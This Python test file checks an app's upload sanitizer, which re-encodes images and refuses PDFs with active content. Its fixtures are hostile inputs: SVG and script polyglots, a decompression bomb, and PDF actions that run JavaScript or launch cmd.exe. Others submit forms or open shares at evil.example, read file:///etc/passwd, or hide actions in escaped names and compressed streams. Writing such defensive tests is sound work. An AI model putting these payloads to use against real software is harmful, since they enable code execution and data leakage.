"""What people upload: pictures are made anew, documents that act are refused."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

import pytest
from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from app.accounts.preferences.images import ImageRefusedError, clean_image
from app.accounts.preferences.pdf import PdfRefusedError, check_pdf
from app.accounts.preferences.pdf_apart import check_pdf_apart

SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
SCRIPT = b"<script>alert(document.domain)</script>"


def picture(kind: str = "PNG", size: tuple[int, int] = (600, 300), **options: object) -> bytes:
    """A red picture as a file."""
    made = io.BytesIO()
    Image.new("RGB", size, "#c00").save(made, kind, **options)
    return made.getvalue()


def opened(content: bytes) -> Image.Image:
    return Image.open(io.BytesIO(content))


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP"])
def test_picture_becomes_a_png_that_fits(kind: str) -> None:
    clean = opened(clean_image(picture(kind)))

    assert (clean.format, clean.size) == ("PNG", (320, 160))
    assert clean.getpixel((5, 5))[0] > 200  # type: ignore[index]


def test_small_picture_keeps_its_size() -> None:
    assert opened(clean_image(picture(size=(20, 10)))).size == (20, 10)


def test_words_in_a_picture_are_gone() -> None:
    said = PngImagePlugin.PngInfo()
    said.add_text("Comment", "secret place")
    exif = Image.Exif()
    exif[0x010E] = "secret place"

    for content in (
        picture(pnginfo=said),
        picture("JPEG", exif=exif, comment="secret place", icc_profile=b"secret place"),
    ):
        assert b"secret place" in content
        assert b"secret place" not in clean_image(content)


def test_picture_stands_upright() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by a quarter

    assert opened(clean_image(picture("JPEG", size=(40, 20), exif=exif))).size == (20, 40)


HOSTILE_PICTURES = [
    (b"", "unreadable"),
    (SVG, "unreadable"),
    (b"<!doctype html>" + SCRIPT, "unreadable"),
    (b"GIF89a/*" + SCRIPT, "unreadable"),
    (picture("GIF"), "unreadable"),
    (picture("TIFF"), "unreadable"),
    (picture() + SCRIPT, "unreadable"),
    (picture("JPEG") + SCRIPT, "unreadable"),
    (picture("WEBP") + SCRIPT, "unreadable"),
    (SCRIPT + picture(), "unreadable"),
    (picture()[:-30], "unreadable"),
    (picture("JPEG")[:-300], "unreadable"),
    (picture("WEBP")[:-30], "unreadable"),
    (picture(size=(5_001, 1)), "too_many_pixels"),
    (picture(size=(4_000, 4_000)), "too_many_pixels"),
]


@pytest.mark.parametrize(("content", "code"), HOSTILE_PICTURES)
def test_anything_else_is_no_picture(content: bytes, code: str) -> None:
    with pytest.raises(ImageRefusedError) as refused:
        clean_image(content)

    assert refused.value.code == code


def huge_png() -> bytes:
    """A few bytes that say they are 10,000 by 10,000 pixels."""
    small = picture(size=(1, 1))
    head = struct.pack(">II", 10_000, 10_000) + small[24:29]
    return small[:16] + head + struct.pack(">I", zlib.crc32(b"IHDR" + head)) + small[33:]


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_bomb_is_refused_before_it_is_decoded() -> None:
    with pytest.raises(ImageRefusedError) as refused:
        clean_image(huge_png())

    assert refused.value.code == "too_many_pixels"


def document(change: Callable[[PdfWriter], object] = lambda _: None) -> bytes:
    """A PDF of one page, with a change."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    change(writer)
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


@pytest.mark.parametrize(("times", "refused"), [(80, False), (200, True)])
def test_jpeg_drawn_over_and_over_is_refused(times: int, refused: bool) -> None:
    plain = picture("JPEG", progressive=True)
    last_scan = plain[plain.rindex(b"\xff\xda") : -2]
    content = plain[:-2] + last_scan * times + plain[-2:]

    found = ""
    try:
        clean_image(content)
    except ImageRefusedError as error:
        found = error.code

    assert found == ("unreadable" if refused else "")


def written(catalogue: bytes = b"", fourth: bytes = b"null") -> bytes:
    """A PDF of one page byte by byte, with this in its catalogue and as its fourth object."""
    objects = (
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        fourth,
        b"/EmbeddedFile" if b"5 0 R" in fourth else b"null",
    )
    made, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(b"%010d 00000 n \n" % len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = b"xref\n0 6\n0000000000 65535 f \n" + b"".join(places)
    end = b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(made)
    return made + table + end


def packed(held: bytes) -> bytes:
    """The same, with one object that is compressed inside another."""
    holder = zlib.compress(b"6 0 " + held, 9)
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(holder)
    made = written(fourth=head + b"\nstream\n" + holder + b"\nendstream")
    made = made[: made.index(b"xref\n")]
    places = [made.index(b"%d 0 obj" % number) for number in range(1, 6)] + [len(made)]
    rows = b"".join(b"\1" + place.to_bytes(4, "big") + b"\0" for place in places[:5])
    rows += b"\2" + (4).to_bytes(4, "big") + b"\0" + b"\1" + places[5].to_bytes(4, "big") + b"\0"
    said = b"/Type /XRef /Size 8 /Index [1 7] /W [1 4 1] /Root 1 0 R /Length %d" % len(rows)
    made += b"7 0 obj\n<< %s >>\nstream\n%s\nendstream\nendobj\n" % (said, rows)
    return made + b"startxref\n%d\n%%%%EOF\n" % places[5]


def is_acting(content: bytes) -> bool:
    try:
        check_pdf(content)
    except PdfRefusedError as refused:
        return refused.code == "acting"
    return False


def name(text: str) -> NameObject:
    return NameObject(f"/{text}")


def action(kind: str, **more: str) -> DictionaryObject:
    fields = {name(key): TextStringObject(value) for key, value in more.items()}
    return DictionaryObject({name("S"): name(kind), **fields})


def opening(kind: str, **more: str) -> Callable[[PdfWriter], object]:
    return lambda writer: writer.root_object.update({name("OpenAction"): action(kind, **more)})


def annotate(writer: PdfWriter) -> None:
    link = DictionaryObject({name("Subtype"): name("Link"), name("A"): action("Launch", F="a.exe")})
    writer.pages[0][name("Annots")] = ArrayObject([writer._add_object(link)])


def hide_in_page(writer: PdfWriter) -> None:
    hidden = DictionaryObject({name("O"): action("JavaScript", JS="app.alert(1)")})
    writer.pages[0][name("AA")] = hidden


def fill_in(writer: PdfWriter) -> None:
    form = DictionaryObject({name("XFA"): TextStringObject("<xdp/>")})
    writer.root_object[name("AcroForm")] = form


@pytest.mark.parametrize(
    "change",
    [
        opening("JavaScript", JS="app.alert(1)"),
        opening("Launch", F="calc.exe"),
        opening("SubmitForm", F="https://evil.example"),
        opening("GoToR", F="//evil.example/share"),
        annotate,
        hide_in_page,
        fill_in,
        lambda writer: writer.add_attachment("invoice.xml", b"<x/>"),
    ],
)
def test_document_that_acts_is_refused(change: Callable[[PdfWriter], object]) -> None:
    with pytest.raises(PdfRefusedError) as refused:
        check_pdf(document(change))

    assert refused.value.code == "acting"


def test_name_written_in_figures_is_read_all_the_same() -> None:
    content = document(opening("JavaScript", JS="app.alert(1)"))

    with pytest.raises(PdfRefusedError) as refused:
        check_pdf(content.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS"))

    assert refused.value.code == "acting"


def test_action_in_a_compressed_object_is_found() -> None:
    for held, refused in (
        (b"<< /S /Launch >>", True),
        (b"<< /S /Hide >>", True),
        (b"<< >>", False),
    ):
        content = packed(held)

        assert b"Launch" not in content
        assert is_acting(content) is refused


def test_small_file_that_asks_for_much_is_refused() -> None:
    content = packed(b"<< >>" + b" " * 20_000_000)

    assert len(content) < 25_000
    with pytest.raises(PdfRefusedError) as refused:
        check_pdf_apart(content, seconds=1)

    assert refused.value.code == "too_large"


@pytest.mark.parametrize("code", ["", "acting", "unreadable"])
def test_document_is_judged_alike_in_its_own_process(code: str) -> None:
    content = {"": written(), "acting": written(b"/AF << /JS () >>"), "unreadable": b"%PDF"}[code]

    found = ""
    try:
        check_pdf_apart(content)
    except PdfRefusedError as refused:
        found = refused.code

    assert found == code


# Readers differ in what they make of these, and some act.
SLY = [
    (b"<< /S 4 0 R /F (cmd.exe) >>", b"/Launch"),
    (b"<< /S 4 0 R /T (x) >>", b"/Hide"),
    (b"<< /S /GoTo /S /Launch /F (cmd.exe) >>", b"null"),
    (b"null", b"<< >>\nendobj\n4 0 obj\n<< /S /Launch /F (cmd.exe) >>"),
    (b"<< /S /URI /URI (file:///etc/passwd) >>", b"null"),
    (b"<< /S /URI /URI 4 0 R >>", b"(JavaScript:alert\\(1\\))"),
    (b"null", b"<< /Type 5 0 R /Length 0 >>\nstream\n\nendstream"),
    (b"null", b"<< /F (//evil.example/share) /Length 0 >>\nstream\n\nendstream"),
    (b"null", b"<< /Ref << /F (//evil.example/share) >> /Length 0 >>\nstream\n\nendstream"),
]


@pytest.mark.parametrize(("opened_with", "fourth"), SLY)
def test_action_said_in_a_sly_way_is_found(opened_with: bytes, fourth: bytes) -> None:
    assert is_acting(written(b"/OpenAction " + opened_with, fourth))


@pytest.mark.parametrize("url", ["https://maison.example", "mailto:a@b.example", "www.x.example"])
def test_address_that_a_reader_may_open_is_taken(url: str) -> None:
    check_pdf(written(b"/OpenAction << /S /URI /URI (%s) >>" % url.encode()))


@pytest.mark.parametrize("change", [lambda _: None, opening("URI", URI="https://maison.example")])
def test_plain_document_is_taken(change: Callable[[PdfWriter], object]) -> None:
    check_pdf(document(change))


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "unreadable"),
        (b"<html>" + document(), "unreadable"),
        (document() + SCRIPT, "unreadable"),
        (document()[:-200], "unreadable"),
        (b"%PDF-1.7\nnothing\n%%EOF", "unreadable"),
        (picture(), "unreadable"),
        (document(lambda writer: writer.encrypt("secret", algorithm="RC4-128")), "locked"),
    ],
)
def test_anything_else_is_no_document(content: bytes, code: str) -> None:
    with pytest.raises(PdfRefusedError) as refused:
        check_pdf(content)

    assert refused.value.code == code


def test_document_without_end_is_refused() -> None:
    def nest(writer: PdfWriter) -> None:
        deep = DictionaryObject()
        writer.root_object[name("Deep")] = deep
        for _ in range(60):
            inner = DictionaryObject()
            deep[name("Deep")] = inner
            deep = inner

    with pytest.raises(PdfRefusedError) as refused:
        check_pdf(document(nest))

    assert refused.value.code == "too_large"
